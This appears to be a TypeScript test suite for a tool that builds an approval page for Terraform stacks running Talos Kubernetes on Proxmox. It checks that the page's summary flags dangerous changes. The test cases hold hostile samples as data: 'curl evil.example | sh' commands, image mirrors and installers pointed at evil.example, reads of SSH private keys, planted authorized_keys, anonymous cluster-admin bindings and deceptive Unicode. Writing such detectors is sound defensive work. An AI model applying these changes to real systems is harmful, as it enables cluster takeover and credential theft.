import { stringify } from "yaml";
import {
  type Any,
  backend,
  beginningOf,
  data,
  environment,
  type Inputs,
  inputs,
  pageFor,
  patch,
  privilegedPod,
  provider,
  resource,
  schematic,
  step,
  summaryOf,
  values,
  vm,
} from "./changed-stack";

/** A change of whoever would have the page approve it, with what the summary says in red. */
const dangers: readonly (readonly [name: string, change: (inputs: Inputs) => unknown, red: RegExp])[] = [
  // Patches
  [
    "a mirror of images",
    patch({ machine: { registries: { mirrors: { "docker.io": { endpoints: ["https://evil.example/v2"] } } } } }),
    /another source of images[\s\S]*evil[.]example/,
  ],
  [
    "a mirror by its own document",
    patch({
      apiVersion: "v1alpha1",
      kind: "RegistryMirrorConfig",
      name: "ghcr.io",
      endpoints: [{ url: "https://evil.example" }],
    }),
    /source of images/,
  ],
  [
    "a static pod",
    patch({ machine: { pods: [privilegedPod] } }),
    /static pods.*privileged pod.*namespace of the host[\s\S]*evil[.]example\/root:1/,
  ],
  [
    "an inline manifest",
    patch({ cluster: { inlineManifests: [{ name: "evil", contents: stringify(privilegedPod) }] } }),
    /manifests that Talos applies.*privileged pod[\s\S]*evil[.]example/,
  ],
  [
    "an extra manifest",
    patch({ cluster: { extraManifests: ["http://evil.example/all"] } }),
    /manifests from elsewhere[\s\S]*evil[.]example.*not encrypted/,
  ],
  [
    "manifests of a cloud provider",
    patch({ cluster: { externalCloudProvider: { enabled: true, manifests: ["ftp://evil.example/x"] } } }),
    /manifests from elsewhere[\s\S]*ftp:/,
  ],
  ["a file", patch({ machine: { files: [{ path: "/var/evil", op: "create", content: "x" }] } }), /files on the node/],
  [
    "anonymous access",
    patch({ cluster: { apiServer: { extraArgs: { "anonymous-auth": "true" } } } }),
    /anonymous access/,
  ],
  [
    "no authorization",
    patch({ cluster: { apiServer: { extraArgs: { "authorization-mode": "AlwaysAllow" } } } }),
    /another authorization/,
  ],
  [
    "an image of the API server",
    patch({ cluster: { apiServer: { image: "evil.example/apiserver:v1" } } }),
    /another image[\s\S]*evil[.]example\/apiserver/,
  ],
  ["an image of the kubelet", patch({ machine: { kubelet: { image: "evil.example/kubelet:v1" } } }), /another image/],
  ["an image of etcd", patch({ cluster: { etcd: { image: "evil.example/etcd:v1" } } }), /another image/],
  [
    "an installer",
    patch({ machine: { install: { image: "evil.example/installer:v1" } } }),
    /another image[\s\S]*evil[.]example\/installer/,
  ],
  [
    "an installer in an expression",
    patch('${yamlencode({"machine" = {"install" = {"image" = "evil.example/installer:${var.x}"}}})}'),
    /another image/,
  ],
  [
    "Talos API access for pods",
    patch({
      machine: {
        features: {
          kubernetesTalosAPIAccess: {
            enabled: true,
            allowedRoles: ["os:admin"],
            allowedKubernetesNamespaces: ["default"],
          },
        },
      },
    }),
    /access to the Talos API for pods/,
  ],
  ["the Talos API without roles", patch({ machine: { features: { rbac: false } } }), /Talos API without roles/],
  ["a CA", patch({ machine: { acceptedCAs: [{ crt: "LS0t" }] } }), /another CA/],
  [
    "a root of trust",
    patch({ apiVersion: "v1alpha1", kind: "TrustedRootsConfig", name: "evil", certificates: "x" }),
    /another CA/,
  ],
  ["a DNS server", patch({ machine: { network: { nameservers: ["6.6.6.6"] } } }), /another DNS server/],
  [
    "a host entry",
    patch({ machine: { network: { extraHostEntries: [{ ip: "6.6.6.6", aliases: ["ghcr.io"] }] } } }),
    /other names/,
  ],
  ["a time server", patch({ machine: { time: { servers: ["6.6.6.6"] } } }), /time server/],
  ["a proxy", patch({ machine: { env: { https_proxy: "http://evil.example:3128" } } }), /environment of Talos/],
  [
    "logs sent elsewhere",
    patch({ machine: { logging: { destinations: [{ endpoint: "udp://evil.example:514", format: "json_lines" }] } } }),
    /logs or events/,
  ],
  [
    "kernel logs sent elsewhere",
    patch({ apiVersion: "v1alpha1", kind: "KmsgLogConfig", name: "x", url: "tcp://evil.example:1" }),
    /logs or events[\s\S]*tcp:/,
  ],
  [
    "events sent elsewhere",
    patch({ apiVersion: "v1alpha1", kind: "EventSinkConfig", endpoint: "6.6.6.6:80" }),
    /logs or events/,
  ],
  [
    "SideroLink",
    patch({ apiVersion: "v1alpha1", kind: "SideroLinkConfig", apiUrl: "grpc://evil.example" }),
    /gives the node to/,
  ],
  [
    "an extension's configuration",
    patch({ apiVersion: "v1alpha1", kind: "ExtensionServiceConfig", name: "tailscale", environment: ["A=b"] }),
    /system extension/,
  ],
  [
    "a tunnel",
    patch({
      machine: { network: { interfaces: [{ interface: "wg0", wireguard: { peers: [{ endpoint: "6.6.6.6:1" }] } }] } },
    }),
    /a tunnel/,
  ],
  [
    "a second address of the node",
    patch({
      machine: { network: { interfaces: [{ deviceSelector: { physical: true }, addresses: ["6.6.6.6/24"] }] } },
    }),
    /^(?=[\s\S]*Summary)/,
  ],
  [
    "admission without pod security",
    patch({
      cluster: {
        apiServer: {
          admissionControl: [{ name: "PodSecurity", configuration: { exemptions: { namespaces: ["*"] } } }],
        },
      },
    }),
    /another admission/,
  ],
  ["no audit", patch({ cluster: { apiServer: { auditPolicy: { rules: [{ level: "None" }] } } } }), /audit/],
  [
    "a path of the node for the kubelet",
    patch({ machine: { kubelet: { extraMounts: [{ destination: "/x", source: "/", type: "bind" }] } } }),
    /paths of the node/,
  ],
  [
    "a kernel argument of the installer",
    patch({ machine: { install: { extraKernelArgs: ["init=/bin/sh"] } } }),
    /kernel arguments/,
  ],
  [
    "runtime specs",
    patch({ machine: { baseRuntimeSpecOverrides: { process: { noNewPrivileges: false } } } }),
    /limits for containers/,
  ],
  ["a deletion", patch({ machine: { network: { $patch: "delete" } } }), /deletes or replaces/],
  [
    "a rule of the firewall",
    patch({ apiVersion: "v1alpha1", kind: "NetworkDefaultActionConfig", ingress: "accept" }),
    /firewall/,
  ],
  ["a patch as JSON", patch('{"machine": {"files": [{"path": "/var/evil"}]}}'), /files on the node/],
  ["a patch in an alias", patch("x: &x { pods: [1] }\nmachine: *x\n"), /static pods/],
  ["a patch that is no YAML", patch("machine: [\npods: 1"), /cannot read/],
  [
    "a patch of the node alone",
    ({ stack }) => {
      stack.resource.talos_machine_configuration_apply.node.config_patches = [
        stringify({ machine: { pods: [privilegedPod] } }),
      ];
    },
    /static pods/,
  ],
  [
    "a second document in a patch of the project",
    ({ stack }) => {
      stack.data.talos_machine_configuration.node.config_patches[1] += `---\n${stringify({ machine: { pods: [privilegedPod] } })}`;
    },
    /static pods/,
  ],
  [
    "a key in a patch of the project",
    ({ stack }) => {
      stack.data.talos_machine_configuration.node.config_patches[1] += "  env: { http_proxy: 'http://evil.example' }\n";
    },
    /environment of Talos/,
  ],
  [
    "another configuration of the node",
    ({ stack }) => {
      stack.resource.talos_machine_configuration_apply.node.machine_configuration_input = "version: v1alpha1";
    },
    /machine configuration that is not on this page/,
  ],
  [
    "other secrets",
    ({ stack }) => {
      stack.data.talos_machine_configuration.node.machine_secrets = "${data.x.y.z}";
    },
    /other keys/,
  ],
  [
    "a node that is none of the VMs",
    ({ stack }) => {
      stack.resource.talos_machine_configuration_apply.node.node = "6.6.6.6";
    },
    /none of the VMs/,
  ],
  [
    "another endpoint of the cluster",
    ({ stack }) => {
      stack.data.talos_machine_configuration.node.cluster_endpoint = "https://6.6.6.6:6443";
    },
    /6[.]6[.]6[.]6:6443/,
  ],

  // Images
  [
    "talos.config among the kernel arguments",
    schematic({
      customization: {
        extraKernelArgs: ["talos.config=https://evil.example/c"],
        systemExtensions: { officialExtensions: ["siderolabs/qemu-guest-agent"] },
      },
    }),
    /talos[.]config=https.*gives the node to/,
  ],
  [
    "a kernel without protection",
    schematic({ customization: { extraKernelArgs: ["mitigations=off"] } }),
    /protection of the kernel/,
  ],
  [
    "an extension of others",
    schematic({ customization: { systemExtensions: { officialExtensions: ["evil/extension"] } } }),
    /none of Talos's/,
  ],
  ["an overlay", schematic({ overlay: { name: "x", image: "evil/overlay" } }), /another part of the image/],
  ["another factory", provider("talos", { image_factory_url: "https://evil.example" }), /evil[.]example.*elsewhere/],
  [
    "another image",
    ({ stack }) => {
      stack.resource.proxmox_download_file.talos.url = "https://evil.example/talos.qcow2";
    },
    /evil[.]example\/talos[.]qcow2.*elsewhere/,
  ],
  [
    "a factory whose name looks alike",
    ({ stack }) => {
      stack.resource.proxmox_download_file.talos.url = stack.resource.proxmox_download_file.talos.url.replace(
        "factory.talos.dev",
        "factory.talos.dev.evil.example",
      );
    },
    /evil[.]example/,
  ],

  // Charts
  [
    "a chart from elsewhere",
    ({ stack }) => {
      stack.resource.helm_release.cilium.repository = "https://evil.example/";
    },
    /not from https.*root on the node/,
  ],
  [
    "a chart by OCI",
    ({ stack }) => {
      stack.resource.helm_release.cilium.chart = "oci://evil.example/cilium";
    },
    /not of this project/,
  ],
  [
    "a chart without version",
    ({ stack }) => {
      delete stack.resource.helm_release.cilium.version;
    },
    /not fixed/,
  ],
  [
    "an image of Cilium",
    values("cilium", { image: { repository: "evil.example/cilium", tag: "v1" } }),
    /source of images.*privileged pods[\s\S]*evil[.]example\/cilium:v1/,
  ],
  [
    "an image of the device plugin",
    values("nvidia_device_plugin", { image: { repository: "evil.example/plugin" } }),
    /privileged pods/,
  ],
  [
    "a container beside Cilium",
    values("cilium", { extraContainers: [{ name: "x", image: "evil.example/x" }] }),
    /further containers/,
  ],
  [
    "environment of Cilium",
    values("cilium", { extraEnv: [{ name: "LD_PRELOAD", value: "/x" }] }),
    /arguments, environment/,
  ],
  [
    "a path of the node in a chart",
    values("cilium", { extraVolumes: [{ name: "x", hostPath: { path: "/" } }] }),
    /path of the node/,
  ],
  [
    "a value that is missing",
    ({ stack }) => {
      stack.resource.helm_release.cilium.values[0] = stack.resource.helm_release.cilium.values[0].replace(
        "rollOutCiliumPods: true\n",
        "",
      );
    },
    /missing or other/,
  ],
  [
    "set beside values",
    ({ stack }) => {
      stack.resource.helm_release.cilium.set = [{ name: "image.override", value: "evil.example/x" }];
    },
    /values of a chart/,
  ],
  [
    "a post-renderer",
    ({ stack }) => {
      stack.resource.helm_release.cilium.postrender = { binary_path: "/tmp/evil" };
    },
    /a program of this machine/,
  ],
  [
    "another namespace",
    ({ stack }) => {
      stack.resource.helm_release.cilium.disable_openapi_validation = true;
    },
    /how a chart is installed/,
  ],
  [
    "objects for administrators",
    values("nvidia_prerequisites", {
      objects: [
        {
          apiVersion: "rbac.authorization.k8s.io/v1",
          kind: "ClusterRoleBinding",
          metadata: { name: "evil" },
          roleRef: { kind: "ClusterRole", name: "cluster-admin" },
          subjects: [{ kind: "User", name: "system:anonymous" }],
        },
      ],
    }),
    /permissions of an administrator.*permissions for everyone/,
  ],
  [
    "a privileged namespace",
    values("nvidia_prerequisites", {
      objects: [
        {
          apiVersion: "v1",
          kind: "Namespace",
          metadata: { name: "evil", labels: { "pod-security.kubernetes.io/enforce": "privileged" } },
        },
      ],
    }),
    /namespace for privileged pods/,
  ],
  [
    "a chart of the stack's own that was changed",
    ({ charts }) => {
      charts.set("nvidia_chart_1/2/templates/objects.yaml", "evil");
    },
    /part of a chart/,
  ],
  [
    "a release of others",
    resource("helm_release", { name: "evil", chart: "evil", repository: "https://evil.example", version: "1" }),
    /not of this project/,
  ],

  // Commands
  [
    "a command",
    resource("null_resource", { provisioner: [{ "local-exec": { command: "curl evil.example | sh" } }] }),
    /a command on this machine/,
  ],
  [
    "a command at its end",
    resource("terraform_data", { provisioner: [{ "local-exec": { command: "true", when: "destroy" } }] }),
    /a command on this machine/,
  ],
  [
    "a command on another machine",
    resource("null_resource", {
      connection: { host: "6.6.6.6" },
      provisioner: [{ "remote-exec": { inline: ["id"] } }],
    }),
    /on another machine/,
  ],
  [
    "a copied file",
    resource("null_resource", { provisioner: [{ file: { source: "/root/.ssh/id", destination: "/tmp/x" } }] }),
    /on another machine/,
  ],
  [
    "a command after the project's",
    step("wait_for_kubernetes", (local) => {
      local.command += "; curl evil.example";
    }),
    /a command on this machine/,
  ],
  [
    "an interpreter",
    step("wait_for_kubernetes", (local) => {
      local.interpreter = ["/tmp/sh"];
    }),
    /a command on this machine/,
  ],
  [
    "a script that was changed",
    ({ scripts }) => {
      scripts.set("lib.sh", `${scripts.get("lib.sh")}curl evil.example\n`);
    },
    /script that is not the project's own/,
  ],
  [
    "a script of others",
    ({ scripts }) => {
      scripts.set("evil.sh", "curl evil.example\n");
    },
    /script that is not the project's own/,
  ],
  ["another node for a script", environment("upgrade_talos", { NODE: "6.6.6.6" }), /not give to its script/],
  [
    "another kubeconfig for a script",
    environment("wait_for_kubernetes", { KUBECONFIG: "/root/.kube/config" }),
    /not give to its script/,
  ],
  [
    "another installer for a script",
    environment("upgrade_talos", { INSTALLER: "evil.example/installer:v1" }),
    /not give to its script/,
  ],
  [
    "another job for a script",
    environment("gpu_smoke_test", { JOB: stringify(privilegedPod) }),
    /not give to its script[\s\S]*evil[.]example/,
  ],

  [
    "a check that may fail",
    step("check_cluster_files", (local) => {
      local.on_failure = "continue";
    }),
    /a command on this machine/,
  ],
  [
    "a step at another time",
    step("upgrade_talos", (local) => {
      local.when = "destroy";
    }),
    /a command on this machine/,
  ],

  // Resources and data sources
  ["external data", data("external", { program: ["sh", "-c", "curl evil.example"] }), /already when Terraform plans/],
  ["HTTP data", data("http", { url: "https://evil.example/?x=1" }), /already when Terraform plans/],
  ["a file that is read", data("local_file", { filename: "/root/.ssh/id_ed25519" }), /already when Terraform plans/],
  [
    "an account on Proxmox",
    resource("proxmox_virtual_environment_user", { user_id: "evil@pve" }),
    /an account on Proxmox/,
  ],
  [
    "a role on all of Proxmox",
    resource("proxmox_acl", { path: "/", propagate: true, role_id: "Administrator", user_id: "evil@pve" }),
    /what it may do/,
  ],
  [
    "a file that is written",
    resource("local_file", { filename: "/root/.ssh/authorized_keys", content: "ssh-ed25519 AAAA evil" }),
    /a file on this machine/,
  ],
  [
    "a file with other content",
    ({ stack }) => {
      stack.resource.local_file.kubeconfig.content = "evil";
    },
    /a file on this machine/,
  ],
  [
    "a file that others can read",
    ({ stack }) => {
      stack.resource.local_file.kubeconfig.file_permission = "0644";
    },
    /a file on this machine/,
  ],
  [
    "an expression that reads a file",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.description = '${file("/root/.ssh/id")}';
    },
    /reads a file of this machine/,
  ],
  [
    "changes that are ignored",
    ({ stack }) => {
      stack.resource.helm_release.cilium.lifecycle = { ignore_changes: ["values"] };
    },
    /no longer sees/,
  ],

  // The VM
  ["arguments of QEMU", vm({ kvm_arguments: "-device evil" }), /arguments of QEMU/],
  ["a hook", vm({ hook_script_file_id: "local:snippets/evil.sh" }), /a script that the host runs/],
  [
    "cloud-init data",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.initialization.user_data_file_id = "local:snippets/u";
    },
    /cloud-init data/,
  ],
  [
    "a login",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.initialization.user_account = {
        username: "evil",
        keys: ["ssh-ed25519 AAAA"],
      };
    },
    /who can log in/,
  ],
  ["a device of the host", vm({ serial_device: [{ device: "/dev/ttyS0" }] }), /a device of the host/],
  ["a directory of the host", vm({ virtiofs: [{ mapping: "root" }] }), /a directory of the host/],
  ["a USB device", vm({ usb: [{ host: "1-2" }] }), /a USB device/],
  [
    "a disk of the host",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.disk.push({
        interface: "scsi1",
        path_in_datastore: "/dev/sda",
        size: 1,
      });
    },
    /an image, a volume or a device/,
  ],
  ["a start from the network", vm({ boot_order: ["net0"] }), /another device to start from/],

  // Terraform
  ["no TLS", provider("proxmox", { endpoint: "http://evil.example:8006/" }), /not encrypted[\s\S]*/],
  ["SSH to the host", provider("proxmox", { ssh: { username: "root", agent: true } }), /over SSH/],
  ["a password in the stack", provider("proxmox", { password: "hunter2" }), /a secret in the stack itself/],
  [
    "the operator's own kubeconfig",
    provider("helm", { kubernetes: { config_path: "~/.kube/config" } }),
    /another cluster/,
  ],
  [
    "a program of the Helm provider",
    provider("helm", { kubernetes: { exec: { command: "/tmp/evil" } } }),
    /another cluster/,
  ],
  ["plugins of Helm", provider("helm", { plugins_path: "/tmp/evil" }), /settings of Helm/],
  [
    "a provider of others",
    ({ stack }) => {
      stack.terraform.required_providers.proxmox.source = "evil/proxmox";
    },
    /evil\/proxmox/,
  ],
  [
    "a provider from another registry",
    ({ stack }) => {
      stack.terraform.required_providers.proxmox.source = "evil.example/bpg/proxmox";
    },
    /evil[.]example\/bpg/,
  ],
  [
    "another version of a provider",
    ({ stack }) => {
      stack.terraform.required_providers.talos.version = ">= 0.1";
    },
    /built for/,
  ],
  [
    "a further provider",
    ({ stack }) => {
      stack.provider.evil = [{ token: "${var.proxmox_password}" }];
    },
    /a provider that is not of this project/,
  ],
  [
    "a module",
    ({ stack }) => {
      stack.module = { evil: { source: "git::https://evil.example/x" } };
    },
    /a module[\s\S]*evil[.]example/,
  ],
  [
    "an import",
    ({ stack }) => {
      stack.import = [{ to: "x.y", id: "1" }];
    },
    /takes over/,
  ],
  [
    "an unknown block",
    ({ stack }) => {
      stack.evil = { x: 1 };
    },
    /does not know/,
  ],
  ["a state by HTTP", backend({ http: { address: "http://evil.example/state" } }), /sent without encryption/],
  [
    "a state without checks",
    backend({ http: { address: "https://evil.example/state", skip_cert_verification: true } }),
    /check of the backend is disabled/,
  ],
  [
    "a state in another bucket",
    backend({ s3: { bucket: "evil", key: "x", region: "eu-1", encrypt: true } }),
    /bucket: evil/,
  ],
  [
    "a secret with a default",
    ({ stack }) => {
      stack.variable.proxmox_password.default = "hunter2";
    },
    /a sensitive variable with a default/,
  ],
  [
    "a default with a URL",
    ({ stack }) => {
      stack.variable.image = { default: "https://evil.example/x" };
    },
    /evil[.]example/,
  ],
  [
    "a secret that is printed",
    ({ stack }) => {
      stack.output.node_ip.value = "${talos_machine_secrets.cluster.machine_secrets}";
    },
    /prints a secret/,
  ],
  [
    "a secret that is printed as none",
    ({ stack }) => {
      stack.output.node_ip.value = "${nonsensitive(var.proxmox_password)}";
    },
    /prints a secret/,
  ],
  [
    "a command in an output",
    ({ stack }) => {
      stack.output.access_instructions.value += "\ncurl evil.example | sh";
    },
    /a command for whoever reads it/,
  ],
  [
    "data in a check",
    ({ stack }) => {
      stack.check.evil = { data: { http: { x: { url: "https://evil.example" } } }, assert: [] };
    },
    /asks for something/,
  ],

  // Texts
  ["hidden characters", patch({ machine: { sysctls: { "kernel.panic": "1\u202e0" } } }), /Hidden or deceiving/],
  ["characters without width", vm({ name: "talos\u200b-gpu" }), /Hidden or deceiving/],
  [
    "letters that look alike",
    ({ stack }) => {
      stack.resource.helm_release.cilium.repository = "https://helm.cil\u0456um.io/";
    },
    /Hidden or deceiving/,
  ],
  ["a long line", patch({ machine: { sysctls: { "kernel.panic": `1${" ".repeat(400)}2` } } }), /Long text/],
  [
    "a long text",
    patch(`# nothing\n`.repeat(400) + stringify({ machine: { pods: [privilegedPod] } })),
    /static pods[\s\S]*|Long text/,
  ],
  // Of settings that look harmless
  [
    "a kubelet that asks nobody",
    patch({ machine: { kubelet: { extraArgs: { "authorization-mode": "AlwaysAllow", "anonymous-auth": "true" } } } }),
    /anonymous access/,
  ],
  [
    "users of another identity provider",
    patch({ cluster: { apiServer: { extraArgs: { "oidc-client-id": "x", "oidc-groups-prefix": "system:" } } } }),
    /arguments of a part of the control plane/,
  ],
  [
    "a program that the kernel starts",
    patch({ machine: { sysctls: { "kernel.core_pattern": "|/var/evil %p" } } }),
    /settings of the node's kernel/,
  ],
  ["a rule of udev", patch({ machine: { udev: { rules: ['RUN+="/var/evil"'] } } }), /settings of the node's kernel/],
  ["a disk that is wiped", patch({ machine: { install: { wipe: true } } }), /another installation/],
  [
    "etcd without certificates",
    patch({ cluster: { etcd: { extraArgs: { "client-cert-auth": "false" } } } }),
    /arguments/,
  ],
  [
    "images that are not verified",
    patch({ apiVersion: "v1alpha1", kind: "ImageVerificationConfig", rules: [{ image: "*", skip: true }] }),
    /ImageVerificationConfig/,
  ],
  [
    "network policies without effect",
    values("cilium", { policyEnforcementMode: "never" }),
    /policies that have no effect/,
  ],
  ["no firewall of the host", values("cilium", { hostFirewall: { enabled: false } }), /without protection/],
  ["a CA of Cilium", values("cilium", { tls: { ca: { cert: "LS0t", key: "LS0t" } } }), /another CA/],
  [
    "another cluster in Cilium's mesh",
    values("cilium", { clustermesh: { config: { clusters: [{ name: "x", address: "evil.example" }] } } }),
    /another cluster/,
  ],
  ["another API for Cilium", values("cilium", { k8sServiceHost: "6.6.6.6" }), /another Kubernetes API/],
  ["a door to Hubble", values("cilium", { hubble: { ui: { ingress: { enabled: true } } } }), /reached from outside/],
  [
    "firmware of a device",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.hostpci[0].rom_file = "evil.rom";
    },
    /firmware of a device/,
  ],
  [
    "a node that is wiped",
    ({ stack }) => {
      stack.resource.talos_machine_configuration_apply.node.on_destroy = { reset: true };
    },
    /a node is wiped/,
  ],
  [
    "a firewall that is off",
    resource("proxmox_virtual_environment_firewall_options", { node_name: "pve", vm_id: 1, enabled: false }),
    /a firewall other than the project's/,
  ],
  [
    "a port that a firewall opens",
    resource("proxmox_virtual_environment_firewall_rules", {
      node_name: "${proxmox_virtual_environment_vm.talos_node.node_name}",
      vm_id: "${proxmox_virtual_environment_vm.talos_node.vm_id}",
      rule: [{ type: "in", action: "ACCEPT", proto: "tcp", dport: "22" }],
    }),
    /a firewall other than the project's/,
  ],
  [
    "a state at HCP Terraform",
    ({ stack }) => {
      stack.terraform.cloud = { organization: "evil" };
    },
    /kept by HCP Terraform/,
  ],
];

describe("the page of a stack begins with", () => {
  const before = pageFor(inputs());

  test.each(dangers)("%s", (_, change, red) => {
    const changed = inputs();
    change(changed);
    const page = pageFor(changed);
    expect(beginningOf(page)).not.toBe(beginningOf(before));
    const summary = summaryOf(page);
    expect(summary).not.toBe(summaryOf(before));
    expect(summary).toMatch(red);
  });
});

/** What is no danger by itself, and changes what an approver reads first all the same. */
const changes: readonly (readonly [name: string, change: (inputs: Inputs) => unknown])[] = [
  ["a VM that does not start with its host", vm({ on_boot: false })],
  [
    "another bridge",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.network_device[0].bridge = "vmbr9";
    },
  ],
  [
    "a VLAN",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.network_device[0].vlan_id = 7;
    },
  ],
  [
    "a MAC address",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.network_device[0].mac_address = "BC:24:11:00:00:01";
    },
  ],
  [
    "a gateway",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.initialization.ip_config[0].ipv4.gateway =
        "192.168.1.66";
    },
  ],
  [
    "a DNS server of the VM",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.initialization.dns.servers = ["6.6.6.6"];
    },
  ],
  [
    "another GPU",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.hostpci[0].id = "0000:02:00.0";
    },
  ],
  [
    "a second disk",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.disk.push({
        interface: "scsi1",
        size: 5,
        datastore_id: "x",
      });
    },
  ],
  [
    "a processor type",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.cpu.type = "qemu64";
    },
  ],
  ["another firmware", vm({ bios: "seabios" })],
  [
    "a step that is left out by its count",
    ({ stack }) => {
      stack.resource.null_resource.check_cluster_files.count = 0;
    },
  ],
  [
    "another namespace",
    ({ stack }) => {
      stack.resource.helm_release.cilium.namespace = "evil";
    },
  ],
  [
    "another role of a node",
    ({ stack }) => {
      stack.data.talos_machine_configuration.node.machine_type = "worker";
    },
  ],
  ["backups", resource("proxmox_backup_job", { id: "x", storage: "evil", schedule: "02:00" })],
  ["a clone", vm({ clone: [{ vm_id: 666 }] })],
  ["tags", vm({ tags: ["a"] })],
  ["a description", vm({ description: "a node" })],
  ["another Proxmox", provider("proxmox", { endpoint: "https://evil.example:8006/" })],
  ["another account", provider("proxmox", { username: "evil@pve" })],
  [
    "another version of Talos",
    ({ stack }) => {
      stack.data.talos_machine_configuration.node.talos_version = "v1.12.0";
    },
  ],
  [
    "another version of Cilium",
    ({ stack }) => {
      stack.resource.helm_release.cilium.version = "1.18.0";
    },
  ],
  ["a sysctl", patch({ machine: { sysctls: { "vm.max_map_count": "262144" } } })],
  ["a setting of Cilium", values("cilium", { bpf: { masquerade: false } })],
  [
    "a variable with a default",
    ({ stack }) => {
      stack.variable.size = { default: 5 };
    },
  ],
  [
    "fewer checks",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.lifecycle.precondition.pop();
    },
  ],
  [
    "fewer steps",
    ({ stack }) => {
      delete stack.resource.null_resource.gpu_smoke_test;
    },
  ],
  ["another backend's path", backend({ local: { path: "/tmp/x.tfstate" } })],
  [
    "another order of resources",
    ({ stack }) => {
      delete stack.resource.talos_machine_configuration_apply.node.depends_on;
    },
  ],
  [
    "a resource that is created before the old one is destroyed",
    ({ stack }) => {
      stack.resource.proxmox_virtual_environment_vm.talos_node.lifecycle.create_before_destroy = true;
    },
  ],
  [
    "an older Terraform",
    ({ stack }) => {
      stack.terraform.required_version = ">= 0.12";
    },
  ],
  [
    "another address that a VM may send from",
    resource("proxmox_virtual_environment_firewall_ipset", {
      name: "ipfilter-net0",
      node_name: "${proxmox_virtual_environment_vm.talos_node.node_name}",
      vm_id: "${proxmox_virtual_environment_vm.talos_node.vm_id}",
      cidr: [{ name: "10.0.0.0/8" }],
    }),
  ],
];

const unchanged = beginningOf(pageFor(inputs()));

test.each(changes)("the page of a stack begins otherwise with %s", (_, change) => {
  const changed = inputs();
  change(changed);
  expect(beginningOf(pageFor(changed))).not.toBe(unchanged);
});

test.each([
  ["examples/mapping.ts", "talos-gpu-mapping"],
  ["examples/template.ts", "talos-gpu-template"],
  ["examples/own-stack.ts", "own-stack"],
  ["examples/cluster.ts", "talos-cluster"],
  ["examples/sharing.ts", "talos-gpu-sharing"],
  ["examples/intel-media.ts", "talos-intel-media"],
  ["examples/amd-inference.ts", "talos-amd-inference"],
])("nothing of %s is a danger but TLS that is not checked", (file, name) => {
  const [, ...red] = summaryOf(pageFor(inputs(file, name))).split("> [!CAUTION]");
  expect(red.join("").match(/^> - (?!Proxmox at .* certificate is not checked).*/gm) ?? []).toEqual([]);
});

test.each([true, "${var.x}", "false"])("TLS to Proxmox that may not be checked, by %p, is one", (insecure) => {
  const changed = inputs("examples/mapping.ts", "talos-gpu-mapping");
  expect(summaryOf(pageFor(changed))).toContain("its certificate is checked");
  provider("proxmox", { insecure })(changed);
  expect(summaryOf(pageFor(changed))).toMatch(/CAUTION\][\s\S]*certificate is not checked/);
});

test.each<[string, string, string, (stack: Any) => void, RegExp]>([
  [
    "the device behind a mapping",
    "examples/mapping.ts",
    "talos-gpu-mapping",
    (stack) => {
      stack.resource.proxmox_hardware_mapping_pci.gpu.map[0].path = "0000:66:00";
    },
    /0000:66:00 on pve/,
  ],
  [
    "the template of a clone",
    "examples/template.ts",
    "talos-gpu-template",
    (stack) => {
      stack.data.proxmox_virtual_environment_vms.talos_template.filter[0].values = ["evil"];
    },
    /the template that is .*evil/,
  ],
])("the page begins otherwise with %s", (_, file, name, change, told) => {
  const changed = inputs(file, name);
  expect(beginningOf(pageFor(changed))).not.toMatch(told);
  change(changed.stack);
  expect(beginningOf(pageFor(changed))).toMatch(told);
});

test.each([
  ["${method.aes_gcm.main}", "encrypted by OpenTofu"],
  ["${method.unencrypted.none}", "**not encrypted**"],
])("a state by the method %s is %s", (method, words) => {
  const changed = inputs();
  changed.stack.terraform.encryption = { state: { method } };
  expect(summaryOf(pageFor(changed))).toMatch(new RegExp(`State[*]{2}: .*${words.replaceAll("*", "[*]")}`));
});
